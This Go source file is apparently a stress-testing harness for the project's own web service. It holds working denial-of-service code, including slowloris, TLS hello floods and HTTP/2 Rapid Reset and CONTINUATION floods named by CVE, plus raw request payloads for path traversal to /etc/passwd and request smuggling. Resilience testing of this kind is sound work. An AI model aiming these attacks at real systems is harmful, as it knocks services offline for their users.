package attack

import (
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

var httpKinds = []Kind{
	{"http-valid", "requests as browsers make them, from 16 addresses", (*attacker).validRequests},
	{"http-invalid", "requests that no browser makes: wrong methods, paths, bodies, headers and bytes", (*attacker).invalidRequests},
	{"http-handshakes", "a TLS handshake for every request", (*attacker).handshakes},
	{"http-hellos", "the first message of a TLS handshake, over and over, without waiting for the server's answer", (*attacker).hellos},
	{"http-idle", "connections that say nothing at all", (*attacker).idleConnections},
	{"http-slow-headers", "headers that never end, a byte a second", (*attacker).slowHeaders},
	{"http-slow-bodies", "bodies that never end, a byte a second", (*attacker).slowBodies},
	{"http-huge", "bodies and headers without end", (*attacker).huge},
	{"http2-reset", "streams opened and taken back at once (CVE-2023-44487)", (*attacker).rapidReset},
	{"http2-control", "settings, pings and headers that never end (CVE-2019-9512, CVE-2019-9515, CVE-2023-45288)", (*attacker).controlFrames},
}

// paths are what can be asked without a token: the cheap, the large and what reads the store.
var paths = []string{"/", "/booth/", "/healthz", "/openapi.json", "/v1/offices", "/v1/services", "/.well-known/jwks.json", "/nothing", "/v1/me"}

func (a *attacker) validRequests() {
	clients := make([]*http.Client, addresses)
	for i := range clients {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from(i)}, Timeout: patience}
		clients[i] = &http.Client{Timeout: patience, Transport: &http.Transport{
			TLSClientConfig: a.trust.Clone(), DialContext: d.DialContext, ForceAttemptHTTP2: i%2 == 0, MaxIdleConnsPerHost: 8,
		}}
	}
	n := make([]int, 4*addresses)
	a.crew(len(n), func(i int) error {
		n[i]++
		request, err := http.NewRequestWithContext(a.ctx, http.MethodGet, a.Server+paths[(i+n[i])%len(paths)], nil)
		if err != nil {
			return err
		}
		return a.answer(clients[i%addresses].Do(request))
	})
	for _, c := range clients {
		c.CloseIdleConnections()
	}
}

// answer reads an answer and counts it by its status.
func (a *attacker) answer(response *http.Response, err error) error {
	if err != nil {
		return err
	}
	defer response.Body.Close()
	_, err = io.Copy(io.Discard, response.Body)
	a.count(strconv.Itoa(response.StatusCode), 1)
	return err
}

// oddities are requests of which each breaks another rule.
var oddities = []string{
	"GET / HTTP/1.1\r\n\r\n",                               // no host
	"BREW /v1/offices HTTP/1.1\r\nHost: x\r\n\r\n",         // no such method
	"GET /../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", // out of the tree
	"GET /%2e%2e/%00 HTTP/1.1\r\nHost: x\r\n\r\n",
	"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
	"POST /v1/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{\"seat\":[",
	"POST /v1/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -5\r\n\r\n",
	"POST /v1/sign-in HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n", // smuggled
	"POST /v1/holds HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a.b.c\r\nContent-Length: 2\r\n\r\n{}",
	"GET /v1/connect HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 7\r\n\r\n",
	"GET / HTTP/1.1\r\nHost: x\r\nA\x00B: c\r\n\r\n",
	"GET / HTTP/1.1\r\n Host: x\r\n\r\n",
	"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
	"\x00\x00\x00\x00\x00\x00\x00\x00",
	"GET /v1/offices/" + strings.Repeat("a", 8000) + " HTTP/1.1\r\nHost: x\r\n\r\n",
	"GET /v1/offices/x/days?leg=" + strings.Repeat("%41@", 300) + " HTTP/1.1\r\nHost: x\r\n\r\n",
}

func (a *attacker) invalidRequests() {
	n := make([]int, 2*addresses)
	a.crew(len(n), func(i int) error {
		conn, err := a.tls(i%addresses, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(patience))
		n[i]++
		if _, err := io.WriteString(conn, oddities[(i+n[i])%len(oddities)]); err != nil {
			return err
		}
		_ = conn.CloseWrite()
		head := make([]byte, len("HTTP/1.1 400"))
		if _, err := io.ReadFull(conn, head); err != nil {
			a.count("closed without an answer", 1)
			return nil
		}
		a.count(string(head[len("HTTP/1.1 "):]), 1)
		return nil
	})
}

func (a *attacker) handshakes() {
	a.trust.ClientSessionCache = nil // whole ones
	a.crew(2*addresses, func(i int) error {
		conn, err := a.tls(i%addresses, "http/1.1")
		if err != nil {
			return err
		}
		a.count("handshakes", 1)
		return conn.Close()
	})
}

// hellos cost who sends them nothing, and the server the keys and the signature of an answer.
func (a *attacker) hellos() {
	hello, err := a.clientHello()
	if err != nil {
		a.failed(err)
		return
	}
	a.crew(16*addresses, func(i int) error {
		conn, err := a.tcp(i%addresses, a.host)
		if err != nil {
			return err
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(patience))
		if _, err := conn.Write(hello); err != nil {
			return err
		}
		a.count("hellos", 1)
		_, err = io.ReadFull(conn, make([]byte, 5)) // so that the server has made its answer
		return err
	})
}

// clientHello is what a TLS client says first.
func (a *attacker) clientHello() ([]byte, error) {
	client, server := net.Pipe()
	defer server.Close()
	trust := a.trust.Clone()
	trust.ServerName, trust.ClientSessionCache = "127.0.0.1", nil
	var begun sync.WaitGroup
	begun.Go(func() { _ = tls.Client(client, trust).HandshakeContext(a.ctx) }) // ends with the pipe
	defer begun.Wait()
	defer client.Close()
	b := make([]byte, 16<<10)
	n, err := server.Read(b)
	return b[:n], err
}

// held is how many connections an attacker holds: more than one honest address needs, fewer than a process may have open.
const held = 4000

func (a *attacker) idleConnections() {
	a.hold(held, 4, func(n int) (net.Conn, error) { return a.tcp(n, a.host) }, stillThere)
}

// stillThere is an error once the other side has closed.
func stillThere(conn net.Conn) error {
	_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
	_, err := conn.Read(make([]byte, 1))
	var network net.Error
	if errors.As(err, &network) && network.Timeout() {
		return nil
	}
	return err
}

func (a *attacker) secured(n int) (net.Conn, error) { return a.tls(n, "http/1.1") }

func (a *attacker) slowHeaders() {
	a.hold(held/4, 4, func(n int) (net.Conn, error) {
		conn, err := a.secured(n)
		if err == nil {
			_, err = io.WriteString(conn, "GET /v1/offices HTTP/1.1\r\nHost: x\r\nX-Slow: ")
		}
		return conn, err
	}, dribble)
}

func (a *attacker) slowBodies() {
	a.hold(held/4, 4, func(n int) (net.Conn, error) {
		conn, err := a.secured(n)
		if err == nil {
			_, err = io.WriteString(conn, "POST /v1/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{\"seat\":\"")
		}
		return conn, err
	}, dribble)
}

func dribble(conn net.Conn) error {
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, err := conn.Write([]byte{'a'})
	return err
}

// endless is a body that never ends.
type endless struct{}

func (endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'a'
	}
	return len(b), nil
}

func (a *attacker) huge() {
	clients := make([]*http.Client, addresses)
	for i := range clients {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: from(i)}, Timeout: patience}
		clients[i] = &http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: a.trust.Clone(), DialContext: d.DialContext, ForceAttemptHTTP2: i%2 == 0}}
	}
	where := []struct{ path, kind string }{
		{"/v1/sign-in", "application/json"}, {"/v1/holds", "application/json"}, {"/whip/" + a.Session, "application/sdp"},
		{"/v1/tables", "text/csv"}, {"/healthz", "text/plain"},
	}
	n := make([]int, 2*addresses)
	a.crew(len(n), func(i int) error {
		n[i]++
		at := where[(i+n[i])%len(where)]
		var body io.Reader = endless{}
		if n[i]%3 == 0 {
			body = http.NoBody
		}
		request, err := http.NewRequestWithContext(a.ctx, http.MethodPost, a.Server+at.path, body)
		if err != nil {
			return err
		}
		request.Header.Set("Content-Type", at.kind)
		request.Header.Set("Authorization", "Bearer "+a.Room)
		if n[i]%3 == 0 {
			request.Header.Set("X-Huge", strings.Repeat("a", 1<<20))
		}
		return a.answer(clients[i%addresses].Do(request))
	})
	for _, c := range clients {
		c.CloseIdleConnections()
	}
}

// speakHTTP2 opens a connection and a framer on it; what the server says is read and thrown away.
func (a *attacker) speakHTTP2(n int, speak func(*http2.Framer) error) error {
	conn, err := a.tls(n%addresses, "h2")
	if err != nil {
		return err
	}
	drained := make(chan struct{})
	go func() { // ends with the connection
		defer close(drained)
		_, _ = io.Copy(io.Discard, conn)
	}()
	defer func() { <-drained }()
	defer conn.Close()
	a.count("connections", 1)
	_ = conn.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	return speak(framer)
}

func (a *attacker) rapidReset() {
	var head bytes.Buffer
	encode := hpack.NewEncoder(&head)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "x"}, {":path", "/v1/offices"}} {
		_ = encode.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // a buffer takes everything
	}
	a.crew(addresses, func(i int) error {
		return a.speakHTTP2(i, func(f *http2.Framer) error {
			for id := uint32(1); a.ctx.Err() == nil && id < 1<<20; id += 2 {
				err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true})
				if err == nil {
					err = f.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				if err != nil {
					return err
				}
				a.count("streams", 1)
			}
			return nil
		})
	})
}

func (a *attacker) controlFrames() {
	fragment := make([]byte, 8<<10)
	_, _ = rand.Read(fragment)
	a.crew(addresses, func(i int) error {
		return a.speakHTTP2(i, func(f *http2.Framer) error {
			if i%3 == 0 { // headers without an end
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: nil}); err != nil {
					return err
				}
			}
			for n := 0; a.ctx.Err() == nil; n++ {
				var err error
				switch i % 3 {
				case 0:
					err = f.WriteContinuation(1, false, fragment)
				case 1:
					err = f.WritePing(false, [8]byte{byte(n)})
				default:
					err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(n) & 0xffff})
				}
				if err != nil {
					return fmt.Errorf("frame %d: %w", n, err)
				}
				a.count("frames", 1)
			}
			return nil
		})
	})
}
